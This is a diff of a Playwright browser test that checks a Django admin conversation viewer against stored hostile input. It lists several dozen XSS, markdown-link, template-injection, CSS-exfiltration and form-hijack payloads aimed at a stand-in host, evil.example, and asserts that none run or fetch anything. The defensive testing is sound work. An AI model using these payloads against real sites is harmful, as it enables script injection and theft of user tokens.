@@ -1,84 +1,140 @@
+import json
+
 import pytest
 from playwright.sync_api import Page, expect
 
-from conversations.models import Conversation, Item
+from conversations.models import Conversation
 from conversations.schema.items import validate_items
+from tests.browser.transcripts import store
+from tests.browser.watch import Watch
 
+OWNED = "document.title='owned'"
 ATTACKS = [
-    "<script>document.title='owned'</script>",
-    "</pre></code></textarea></title></style><script src=https://evil.example/x.js></script>",
-    "<img src=https://evil.example/pixel.png onerror=\"document.title='owned'\">",
-    "<svg onload=\"document.title='owned'\"><use href='https://evil.example/a.svg#x'/></svg>",
+    f"<script>{OWNED}</script>",
+    "</pre></code></textarea></title></style></details><script src=https://evil.example/x.js></script>",
+    f'<img src=https://evil.example/pixel.png onerror="{OWNED}">',
+    f"<svg onload=\"{OWNED}\"><use href='https://evil.example/a.svg#x'/></svg>",
+    f"<svg><script>{OWNED}</script><image href='https://evil.example/i.png'/></svg>",
     '"><iframe src=//evil.example></iframe>',
-    "' onmouseover='document.title=1' autofocus onfocus='document.title=\"owned\"",
-    "javascript:document.title='owned'",
-    "data:text/html,<script>document.title='owned'</script>",
-    "![image](https://evil.example/pixel.png) [link](javascript:alert(1))",
-    "{{ constructor.constructor('document.title=1')() }} {% load x %} ${7*7}",
+    f"' onmouseover='{OWNED}' autofocus onfocus='{OWNED}",
+    f"javascript:{OWNED}",
+    f"data:text/html,<script>{OWNED}</script>",
+    "data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciIG9ubG9hZD0iYWxlcnQoMSkiLz4=",
+    "//evil.example/pixel.png",
+    "https:\\\\evil.example/pixel.png",
+    "![image](https://evil.example/pixel.png) [link](javascript:alert(1)) [link](//evil.example)",
+    "![image][r]\n\n[r]: https://evil.example/pixel.png 'x\" onmouseover=\"alert(1)'",
+    "[link](https://evil.example/'onmouseover='alert(1)) <https://evil.example/\"onclick=alert(1)>",
+    "[link](&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)) <javascript:alert(1)>",
+    '```"><script>alert(1)</script>\n</code></pre><script>alert(1)</script>\n```',
+    "|<img src=x onerror=alert(1)>|\n|:-:|\n|</table><script>alert(1)</script>|",
+    "{{ constructor.constructor('document.title=1')() }} {% load x %} ${7*7} <!--#exec cmd=ls-->",
     "<link rel=stylesheet href=https://evil.example/a.css><style>@import 'https://evil.example/b.css'</style>",
+    "<p style='background:url(https://evil.example/c.png);position:fixed;inset:0'>x</p>",
     "<meta http-equiv=refresh content='0;url=https://evil.example/'><base href=https://evil.example/>",
-    "\u202egnp.exe\u2066 \u0007\u001b[31m",
+    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
+    "<form action=https://evil.example><input name=csrfmiddlewaretoken><button>Save</button></form>",
+    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
+    "\u202egnp.exe\u2066 \u0007\u001b[31m\u001b]0;title\u0007 \ufeff\u200b\u2028\u2029",
+    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e \u02bconmouseover\u02bc",
 ]
-NOISE = "".join(ATTACKS)
+NOISE = "\n\n".join(ATTACKS)
 
 
 @pytest.fixture
 def hostile(live_server, alice) -> Conversation:
-    annotation = {"type": "url_citation", "url": ATTACKS[6], "title": NOISE, "start_index": 0, "end_index": 1}
+    annotation = {"type": "url_citation", "url": ATTACKS[7], "title": NOISE, "start_index": 0, "end_index": 1}
+    sources = [{"type": "url", "url": attack} for attack in ATTACKS]
+    operation = {"type": "update_file", "path": NOISE, "diff": NOISE}
     items = [
         {"role": "user", "content": [{"type": "input_text", "text": attack} for attack in ATTACKS]},
         {"role": "user", "content": [{"type": "input_image", "image_url": attack} for attack in ATTACKS]},
         {"role": "user", "content": [{"type": "input_image", "image_url": "https://evil.example/pixel.png"}]},
-        {"role": "user", "content": [{"type": "input_file", "filename": NOISE, "file_url": ATTACKS[6]}]},
+        {"role": "user", "content": [{"type": "input_file", "filename": NOISE, "file_url": ATTACKS[7]}]},
         {"role": "assistant", "content": [{"type": "output_text", "text": NOISE, "annotations": [annotation]}]},
-        {"type": "function_call", "call_id": "c", "name": "f", "arguments": f'{{"a": "{ATTACKS[0]}"}}'},
+        {"type": "function_call", "call_id": "c", "name": "f", "arguments": json.dumps({"a": NOISE})},
         {"type": "function_call", "call_id": "d", "name": "f", "arguments": NOISE},
         {"type": "function_call_output", "call_id": "c", "output": NOISE},
         {"type": "custom_tool_call", "call_id": "e", "name": ATTACKS[0], "input": NOISE},
+        {"type": "apply_patch_call", "call_id": "g", "status": "completed", "operation": operation},
+        {
+            "type": "web_search_call",
+            "id": "ws_1",
+            "status": "completed",
+            "action": {"type": "search", "sources": sources},
+        },
+        {"type": "image_generation_call", "id": "ig_1", "status": "completed", "result": ATTACKS[9]},
+        {"type": "reasoning", "id": "rs_1", "summary": [{"type": "summary_text", "text": NOISE}]},
     ]
-    pairs = {attack[:64]: attack for attack in ATTACKS}
+    pairs = {attack[:64]: attack for attack in ATTACKS[:16]}
     conversation = Conversation.create_with_items(owner=alice, metadata=pairs, items=validate_items(items))
-    # What no request can store, and a restored backup might.
-    Item.objects.create(
-        conversation=conversation,
-        position=conversation.last_position + 1,
-        item_id="x_1",
-        type=ATTACKS[0],
-        data={ATTACKS[2]: ATTACKS},
-        created_at=conversation.created_at,
-    )
+    store(conversation, {ATTACKS[2]: ATTACKS}, item_type=ATTACKS[0], item_id="' onclick='alert(1)")
+    store(conversation, {"type": "message", "role": ATTACKS[0], "content": NOISE}, item_type="message", item_id="x_2")
     return conversation
 
 
+ADDRESSES = "links => links.map(a => [a.getAttribute('href'), a.rel, a.target])"
+
+
 def test_nothing_in_a_conversation_is_run_or_fetched(visit, admin, hostile, live_server):
-    def steps(page: Page) -> tuple[list[str], list[str], list[str]]:
-        requests, problems, titles = [], [], []
-        page.on("request", lambda request: requests.append(request.url))
-        page.on("dialog", lambda dialog: (problems.append(dialog.message), dialog.dismiss()))
-        page.on("pageerror", lambda error: problems.append(str(error)))
+    def steps(page: Page) -> Watch:
+        watch = Watch(page)
+        titles = []
         page.goto("/admin/conversations/conversation/")
         titles.append(page.title())
         page.goto("/admin/conversations/conversation/?metadata_key=%3Cscript%3E&metadata_value=%22%3E%3Cscript%3E")
         titles.append(page.title())
         page.goto("/admin/conversations/conversation/")
         page.get_by_role("link", name=hostile.pk).click()
-        expect(page.get_by_role("article")).to_have_count(10)
-        for element in page.locator("article, textarea").all():
-            element.hover()
-            element.click()
-        inside = "#transcript :is(script, img, svg, iframe, link, style, meta, base, object, a)"
+        for address in (
+            page.url,
+            f"{page.url.partition('?')[0]}?view=raw",
+            f"{page.url.partition('?')[0]}?view=rendered",
+        ):
+            page.goto(address)
+            expect(page.get_by_role("article")).to_have_count(15)
+            page.get_by_role("button", name="Expand all").click()
+            for element in page.locator("article, #transcript a, textarea").all():
+                element.hover()
+                element.focus()
+            titles.append(page.title())
+        inside = "#transcript :is(script, svg, iframe, link, style, meta, base, object, form, input, math, [style])"
         assert page.locator(inside).count() == 0
+        assert page.locator("#transcript img").count() == 0
         assert page.locator("#transcript").evaluate("e => e.innerText.includes('evil.example/pixel.png')")
-        titles.append(page.title())
+        for address, rel, target in page.locator("#transcript a").evaluate_all(ADDRESSES):
+            if not address.startswith(("?", "#", "../items/")):
+                assert address.startswith(("https://", "mailto:")), address
+                assert (rel, target) == ("noopener noreferrer nofollow", "_blank")
         page.get_by_role("link", name="Delete").click()
         expect(page.get_by_role("heading", name="Summary")).to_be_visible()
         titles.append(page.title())
-        return requests, problems, titles
+        assert all(title.endswith("| Conversations") for title in titles)
+        return watch
 
-    requests, problems, titles = visit(steps, as_user=admin)
-    assert problems == []
-    assert [url for url in requests if not url.startswith(live_server.url)] == []
-    assert all(title.endswith("| Conversations") for title in titles)
+    watch = visit(steps, as_user=admin)
+    assert watch.problems == []
+    assert watch.strangers(live_server.url) == []
+
+
+def test_a_remote_image_names_its_host_before_anything_is_pressed(visit, admin, alice, live_server):
+    content = [{"type": "input_image", "image_url": "https://images.example/a.png"}]
+    items = validate_items([{"role": "user", "content": content}])
+    conversation = Conversation.create_with_items(owner=alice, items=items)
+
+    def steps(page: Page) -> Watch:
+        watch = Watch(page)
+        page.goto(f"/admin/conversations/conversation/{conversation.pk}/change/")
+        link = page.get_by_role("link", name="https://images.example/a.png")
+        expect(link).to_be_hidden()
+        page.get_by_text("Image at images.example").press("Enter")
+        expect(link).to_be_visible()
+        assert link.get_attribute("rel") == "noopener noreferrer nofollow"
+        return watch
+
+    watch = visit(steps, as_user=admin)
+    assert watch.problems == []
+    assert watch.strangers(live_server.url) == []
 
 
 def test_the_own_markup_holds_no_inline_script_or_style(visit, admin, hostile):
